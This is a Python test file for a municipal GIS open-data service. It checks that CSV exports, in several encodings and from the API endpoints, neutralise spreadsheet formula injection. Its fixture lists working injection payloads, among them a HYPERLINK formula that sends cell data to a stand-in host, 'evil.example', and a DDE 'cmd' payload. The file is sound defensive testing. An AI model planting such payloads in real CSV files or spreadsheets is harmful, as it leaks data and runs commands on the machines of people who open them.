"""CSV formula injection (issue 18): text a spreadsheet would run is neutralised in every CSV.

A department file whose names start with ``=``, ``+``, ``-``, ``@``, a tab or CR (ASCII or the
full-width ＝＋－＠ that Japanese Excel also reads as a formula) must not reach a resident's
spreadsheet as a formula: not in the open-data CSVs (UTF-8 with BOM, cp932, the Digital Agency
standard CSV), not in ``/api/.../items?f=csv``, not in ``/point?f=csv``. Numbers stay numbers.
"""

import csv
import io

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from handover import POINTS, Project, field, point_feature, write_geojson

from etl.publish.manifest import layer_dir, read_manifest
from tsukuba_gis.csvsafe import safe_cell

# What the department hands over -> what a spreadsheet must get.
HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")': '\'=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
    "\r=1+1": "'=1+1",  # the ETL strips the leading CR: what remains still starts with =
    "＝１＋１": "'＝１＋１",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "－A1": "'－A1",
}
HARMLESS = ["桜中学校", "-5", "-36.5", "a=b"]
FIELDS = [
    field("common_id", "番号", required=True),
    field("name", "名称", required=True),
    field("address", "住所"),
    field("note", "備考"),
    field("level", "水位", type="integer"),
    field("depth", "深さ", type="number"),
]


def test_safe_cell_rules():
    for given, expected in HOSTILE.items():
        assert safe_cell(given.lstrip()) == expected
    assert safe_cell("\t=1") == "'\t=1"
    for text in HARMLESS:
        assert safe_cell(text) == text
    assert safe_cell(-5) == -5 and safe_cell(-1.5) == -1.5 and safe_cell(None) is None


def _hostile_project(root, store_url=None):
    project = Project(root)
    names = list(HOSTILE) + HARMLESS
    features = [
        point_feature(
            POINTS[0][0] + i * 1e-5,
            POINTS[0][1],
            番号=f"S{i}",
            名称=name,
            住所="茨城県つくば市研究学園1-1" if i else "-茨城県つくば市",
            備考=name,
            水位=-3,
            深さ=-0.5,
        )
        for i, name in enumerate(names)
    ]
    write_geojson(project.sources / "sites.geojson", features)
    project.define(
        "sites",
        {"path": "sites.geojson"},
        FIELDS,
        keywords=["緊急避難場所"],
        id_field="common_id",
        opendata={"standard": "evacuation_space"},
    )
    settings = project.settings
    if store_url is not None:
        settings = settings.model_copy(update={"store": store_url})
    from etl.runner import run_etl

    report = run_etl(settings, ["sites"], quiet=True)
    assert report.ok, [(r.layer_id, r.error, r.published) for r in report.layers]
    return settings


def _cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def _assert_neutral(cells: set[str]) -> None:
    for expected in HOSTILE.values():
        assert expected in cells, (expected, sorted(cells)[:40])
    for cell in cells:
        assert cell[:1] not in "=+@＝＋－＠\t\r" or not cell, cell
        assert not cell.startswith("-") or cell in ("-5", "-36.5", "-3", "-0.5"), cell


def test_open_data_csvs_are_neutralised(tmp_path):
    settings = _hostile_project(tmp_path)
    manifest = read_manifest(settings.data_dir, "sites")
    folder = layer_dir(settings.data_dir, "sites") / manifest["directory"]
    names = {f["name"] for f in manifest["files"] if f["name"].endswith(".csv")}
    assert names == {
        "sites.csv",
        "sites_sjis.csv",
        "082201_evacuation_space.csv",
        "082201_evacuation_space_sjis.csv",
    }
    for name in names:
        encoding = "cp932" if name.endswith("_sjis.csv") else "utf-8-sig"
        text = (folder / name).read_bytes().decode(encoding)
        rows = list(csv.reader(io.StringIO(text)))
        _assert_neutral(_cells(rows))
    plain = pd.read_csv(folder / "sites.csv", encoding="utf-8-sig")
    # Numbers stay numbers: a spreadsheet (and pandas) reads them as such.
    assert set(plain["level"]) == {-3} and set(plain["depth"]) == {-0.5}
    assert plain["longitude"].dtype == float
    standard = pd.read_csv(folder / "082201_evacuation_space.csv", encoding="utf-8-sig", dtype=str)
    assert standard["緯度"].astype(float).between(35.9, 36.3).all()
    assert set(standard["全国地方公共団体コード"]) == {"082201"}


@pytest.fixture(params=["gpkg", "postgis"])
def hostile_client(request, tmp_path):
    from server.app import create_app

    url = request.getfixturevalue("postgis_url") if request.param == "postgis" else None
    settings = _hostile_project(tmp_path, url).model_copy(update={"public_url": "http://testserver"})
    with TestClient(create_app(settings)) as client:
        yield client


def test_items_and_point_csv_are_neutralised(hostile_client):
    items = hostile_client.get("/api/collections/sites/items", params={"f": "csv", "limit": 50})
    assert items.status_code == 200, items.text[:300]
    rows = list(csv.reader(io.StringIO(items.text)))
    assert len(rows) == 1 + len(HOSTILE) + len(HARMLESS)
    _assert_neutral(_cells(rows))
    json_items = hostile_client.get("/api/collections/sites/items", params={"limit": 50}).json()
    # Only CSV is changed: the JSON keeps the department's text as it is.
    assert {f["properties"]["name"] for f in json_items["features"]} >= {"=1+1", "@SUM(A1:A9)"}
    lat, lon = POINTS[0][1], POINTS[0][0]
    point = hostile_client.get("/point", params={"lat": lat, "lon": lon, "f": "csv", "nearest": 10})
    assert point.status_code == 200, point.text[:300]
    cells = _cells(list(csv.reader(io.StringIO(point.text.lstrip("\ufeff")))))
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"詳細")' in cells and "'＝１＋１" in cells
    assert not any(c.startswith(("=", "@", "＝", "+")) for c in cells)
